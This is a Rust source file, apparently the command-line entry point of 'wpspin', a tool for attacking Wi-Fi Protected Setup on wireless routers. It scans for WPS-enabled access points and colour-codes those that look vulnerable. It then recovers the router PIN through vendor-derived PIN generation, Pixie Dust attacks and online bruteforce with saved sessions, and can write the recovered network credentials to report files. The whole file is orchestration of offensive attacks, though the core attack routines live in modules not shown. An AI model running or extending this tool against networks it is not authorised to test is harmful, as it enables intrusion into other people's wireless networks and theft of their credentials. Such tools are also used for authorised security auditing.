//! wpspin command line.

use std::io::{self, BufRead, IsTerminal, Write};
use std::path::PathBuf;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;
use std::time::Duration;

use anyhow::{anyhow, bail, Context, Result};
use clap::Parser;
use tracing::{info, warn};
use tracing_subscriber::EnvFilter;

use wpspin::attack::{
    BruteforceEngine, BruteforceMask, BruteforceResult, PinAttack, PinAttackOptions, DEFAULT_PIN,
};
use wpspin::pin::{OuiIndex, WpsPinGenerator};
use wpspin::reporter::ConsoleReporter;
use wpspin::scan::{self, AccessPoint, ScanMark};
use wpspin::store::{ResultStore, SessionStore};
use wpspin::utils;
use wpspin::{AttackError, Config, MacAddress};

#[derive(Parser)]
#[command(name = "wpspin")]
#[command(about = "WPS PIN search: vendor PIN generation, Pixie Dust and online bruteforce")]
struct Args {
    /// Wireless interface (e.g., wlan0)
    #[arg(short, long)]
    interface: Option<String>,

    /// Target BSSID; the target list is shown when omitted
    #[arg(short, long)]
    bssid: Option<String>,

    /// PIN to try; with -B, the start of the bruteforce
    #[arg(short, long)]
    pin: Option<String>,

    /// Run the Pixie Dust attack
    #[arg(short = 'K', long = "pixie-dust")]
    pixie_dust: bool,

    /// Run the Pixie Dust tool in full-range mode
    #[arg(short = 'F', long = "pixie-force")]
    pixie_force: bool,

    /// Print the Pixie Dust command
    #[arg(short = 'X', long = "show-pixie-cmd")]
    show_pixie_cmd: bool,

    /// Online bruteforce of the PIN
    #[arg(short = 'B', long)]
    bruteforce: bool,

    /// Seconds between bruteforce attempts
    #[arg(short, long)]
    delay: Option<f64>,

    /// Append recovered credentials to the report files
    #[arg(short, long)]
    write: bool,

    /// Vulnerable device list for target marking
    #[arg(long)]
    vuln_list: Option<PathBuf>,

    /// Bring the interface down on exit
    #[arg(long)]
    iface_down: bool,

    /// Return to the target list after each attack
    #[arg(short, long = "loop")]
    loop_mode: bool,

    /// Show the target list weakest first
    #[arg(short, long = "reverse-scan")]
    reverse_scan: bool,

    /// Debug logging
    #[arg(short, long)]
    verbose: bool,

    /// Print the generated PINs for --bssid and exit
    #[arg(long)]
    pins: bool,
}

fn main() -> Result<()> {
    let args = Args::parse();

    let mut config = Config::load().context("Failed to load configuration")?;
    apply_args(&mut config, &args)?;
    init_logging(config.verbose);

    let generator = match &config.oui_table {
        Some(path) => WpsPinGenerator::with_index(
            OuiIndex::load(path).context("Failed to load OUI table")?,
        ),
        None => WpsPinGenerator::new(),
    };

    if args.pins {
        let bssid = args
            .bssid
            .as_deref()
            .ok_or_else(|| anyhow!("--pins needs --bssid"))?;
        print_pins(&generator, MacAddress::parse(bssid)?);
        return Ok(());
    }

    if !utils::is_root() {
        bail!("Run it as root");
    }

    let stop = Arc::new(AtomicBool::new(false));
    let handler_stop = stop.clone();
    ctrlc::set_handler(move || handler_stop.store(true, Ordering::SeqCst))
        .context("Failed to set Ctrl-C handler")?;

    utils::set_link(&config.interface, true)
        .with_context(|| format!("Unable to up interface \"{}\"", config.interface))?;

    let result = run(&args, &config, &generator, stop);

    if args.iface_down {
        if let Err(e) = utils::set_link(&config.interface, false) {
            warn!("{}", e);
        }
    }
    result
}

fn apply_args(config: &mut Config, args: &Args) -> Result<()> {
    if let Some(interface) = &args.interface {
        config.interface = interface.clone();
    }
    if let Some(delay) = args.delay {
        if !delay.is_finite() || delay < 0.0 {
            bail!("Invalid delay: {}", delay);
        }
        config.delay = Duration::from_secs_f64(delay);
    }
    if let Some(path) = &args.vuln_list {
        config.vuln_list = path.clone();
    }
    config.save_results |= args.write;
    config.verbose |= args.verbose;
    Ok(())
}

fn init_logging(verbose: bool) {
    let level = if verbose { "debug" } else { "info" };
    let filter = EnvFilter::try_from_default_env().unwrap_or_else(|_| EnvFilter::new(level));

    tracing_subscriber::fmt()
        .with_env_filter(filter)
        .with_target(false)
        .with_writer(io::stderr)
        .init();
}

fn print_pins(generator: &WpsPinGenerator, bssid: MacAddress) {
    let suggested: Vec<&str> = generator
        .suggested(bssid)
        .iter()
        .map(|g| g.id)
        .collect();
    println!("PINs for {} (* = suggested):", bssid);
    for pin in generator.all(bssid, true) {
        let mark = if suggested.contains(&pin.id) { '*' } else { ' ' };
        println!("{} {}", mark, pin);
    }
}

#[cfg(not(unix))]
fn run(_: &Args, _: &Config, _: &WpsPinGenerator, _: Arc<AtomicBool>) -> Result<()> {
    bail!("Attacks need a Unix control socket")
}

#[cfg(unix)]
fn run(
    args: &Args,
    config: &Config,
    generator: &WpsPinGenerator,
    stop: Arc<AtomicBool>,
) -> Result<()> {
    use wpspin::attack::AttackSession;
    use wpspin::control::Supplicant;

    let reports = ResultStore::new(&config.reports_dir);
    let sessions = SessionStore::new(&config.data_dir);
    let vuln_list = scan::load_vuln_list(&config.vuln_list).unwrap_or_else(|e| {
        warn!("Failed to load vulnerable device list: {}", e);
        Vec::new()
    });

    let engine = Supplicant::start(&config.supplicant, &config.interface, config.timeout)
        .context("Failed to start wpa_supplicant")?;
    let reporter = ConsoleReporter::new()
        .with_colors(io::stdout().is_terminal())
        .with_verbose(config.verbose);
    let mut session = AttackSession::new(engine, &config.interface)
        .with_reporter(Box::new(reporter))
        .with_stop_flag(stop.clone())
        .with_timeout(config.timeout);
    if config.save_results {
        session = session.with_results(reports.clone());
    }

    let mut target = args.bssid.clone();
    loop {
        let bssid = match target.take() {
            Some(bssid) => MacAddress::parse(&bssid)?,
            None => match prompt_network(config, args.reverse_scan, &reports, &vuln_list)? {
                Some(bssid) => bssid,
                None => break,
            },
        };

        let result: Result<(), AttackError> = if args.bruteforce {
            let start = match args.pin.as_deref() {
                Some(pin) => BruteforceMask::from_start_pin(pin)?,
                None => None,
            };
            let start = match start {
                Some(mask) => mask,
                None => restore_mask(&sessions, bssid)?,
            };
            BruteforceEngine::new(&mut session)
                .with_sessions(sessions.clone())
                .with_max_retries(config.max_retries)
                .with_delay(config.delay)
                .run(bssid, start)
                .map(|result| match result {
                    BruteforceResult::Found { pin, .. } => info!("Bruteforce found PIN {}", pin),
                    BruteforceResult::Exhausted { phase } => {
                        info!("Bruteforce exhausted the {}", phase)
                    }
                    BruteforceResult::Interrupted { mask } => {
                        println!("\nAborting… session saved at mask {}", mask)
                    }
                })
        } else {
            let options = PinAttackOptions {
                pixie: args.pixie_dust,
                show_command: args.show_pixie_cmd,
                full_range: args.pixie_force,
                pixiewps: config.pixiewps.clone(),
            };
            let mut attack = PinAttack::new(&mut session, options).with_sessions(sessions.clone());
            let pin = match &args.pin {
                Some(pin) => pin.clone(),
                None if args.pixie_dust => attack.default_pin(bssid, generator, |stored| {
                    prompt_yes(&format!("Use previously calculated PIN {}? [n/Y] ", stored), true)
                }),
                None => prompt_pin(generator, bssid)?,
            };
            attack.run(bssid, &pin).map(|outcome| {
                if !outcome.success {
                    if let Some(message) = &outcome.error_message {
                        info!("{}", message);
                    }
                }
            })
        };

        match result {
            Ok(()) => {}
            Err(AttackError::Interrupted) => println!("\nAborting…"),
            Err(e) if !args.loop_mode => return Err(e.into()),
            Err(e) => eprintln!("error: {}", e),
        }

        if !args.loop_mode {
            break;
        }
        let interrupted = stop.swap(false, Ordering::SeqCst);
        if interrupted
            && prompt_yes("Exit the script (otherwise continue to AP scan)? [N/y] ", false)
        {
            break;
        }
    }
    Ok(())
}

/// Offer a saved bruteforce session for `bssid`.
fn restore_mask(sessions: &SessionStore, bssid: MacAddress) -> Result<BruteforceMask> {
    let saved = sessions.load_mask(bssid).unwrap_or_else(|e| {
        warn!("Failed to read saved session: {}", e);
        None
    });
    if let Some(saved) = saved {
        if prompt_yes(&format!("Restore previous session for {}? [n/Y] ", bssid), true) {
            return saved
                .parse()
                .with_context(|| format!("Corrupt session file for {}", bssid));
        }
    }
    Ok(BruteforceMask::FirstHalf(0))
}

/// Let the operator pick a suggested PIN; default to the likely one.
fn prompt_pin(generator: &WpsPinGenerator, bssid: MacAddress) -> Result<String> {
    let default = generator
        .likely(bssid)
        .unwrap_or_else(|| DEFAULT_PIN.to_string());
    let suggested = generator.suggested(bssid);
    if suggested.len() <= 1 {
        return Ok(default);
    }

    println!("PINs generated for {}:", bssid);
    println!("{:<3} {:<10} Name", "#", "PIN");
    for (i, pin) in suggested.iter().enumerate() {
        println!("{:<3} {}", format!("{})", i + 1), pin);
    }
    loop {
        let answer = prompt("Select the PIN: ")?;
        if answer.is_empty() {
            return Ok(suggested[0].pin.clone());
        }
        match answer.parse::<usize>() {
            Ok(n) if (1..=suggested.len()).contains(&n) => return Ok(suggested[n - 1].pin.clone()),
            _ => println!("Invalid number"),
        }
    }
}

/// Scan, list WPS networks and let the operator choose one.
///
/// `None` when no WPS network is around.
fn prompt_network(
    config: &Config,
    reverse: bool,
    reports: &ResultStore,
    vuln_list: &[String],
) -> Result<Option<MacAddress>> {
    let stored = reports.stored_targets().unwrap_or_else(|e| {
        warn!("Failed to read stored results: {}", e);
        Vec::new()
    });

    loop {
        println!("Scanning on {}...", config.interface);
        let networks = scan::scan(&config.interface).context("Scan failed")?;
        if networks.is_empty() {
            println!("No WPS networks found.");
            return Ok(None);
        }
        print_networks(&networks, reverse, &stored, vuln_list);

        loop {
            let answer = prompt("Select target (press Enter to refresh): ")?;
            if answer.is_empty() || answer == "r" || answer == "0" {
                break;
            }
            match answer.parse::<usize>() {
                Ok(n) if (1..=networks.len()).contains(&n) => {
                    return Ok(Some(networks[n - 1].bssid))
                }
                _ => println!("Invalid number"),
            }
        }
    }
}

fn print_networks(
    networks: &[AccessPoint],
    reverse: bool,
    stored: &[(String, String)],
    vuln_list: &[String],
) {
    const GREEN: &str = "\x1b[32m";
    const RED: &str = "\x1b[31m";
    const YELLOW: &str = "\x1b[33m";
    const RESET: &str = "\x1b[0m";

    if !vuln_list.is_empty() {
        println!(
            "Network marks: {}Possibly vulnerable{} | {}WPS locked{} | {}Already stored{}",
            GREEN, RESET, RED, RESET, YELLOW, RESET
        );
    }
    println!(
        "{:<4} {:<18} {:<25} {:<8} {:<4} {:<27} WSC model",
        "#", "BSSID", "ESSID", "Sec.", "PWR", "WSC device name"
    );

    let mut rows: Vec<(usize, &AccessPoint)> = networks.iter().enumerate().collect();
    if reverse {
        rows.reverse();
    }
    for (i, ap) in rows {
        let line = format!(
            "{:<4} {:<18} {:<25} {:<8} {:<4} {:<27} {}",
            format!("{})", i + 1),
            ap.bssid.to_string(),
            utils::truncate(&ap.essid, 25),
            ap.security,
            ap.signal,
            utils::truncate(&ap.device_name, 27),
            ap.full_model()
        );
        let color = match scan::mark(ap, stored, vuln_list) {
            ScanMark::Stored => Some(YELLOW),
            ScanMark::Locked => Some(RED),
            ScanMark::Vulnerable => Some(GREEN),
            ScanMark::None => None,
        };
        match color {
            Some(color) => println!("{}{}{}", color, line, RESET),
            None => println!("{}", line),
        }
    }
}

fn prompt(message: &str) -> Result<String> {
    print!("{}", message);
    io::stdout().flush()?;
    let mut line = String::new();
    io::stdin().lock().read_line(&mut line)?;
    Ok(line.trim().to_string())
}

fn prompt_yes(message: &str, default: bool) -> bool {
    match prompt(message) {
        Ok(answer) if answer.is_empty() => default,
        Ok(answer) => answer.eq_ignore_ascii_case("y"),
        Err(_) => default,
    }
}
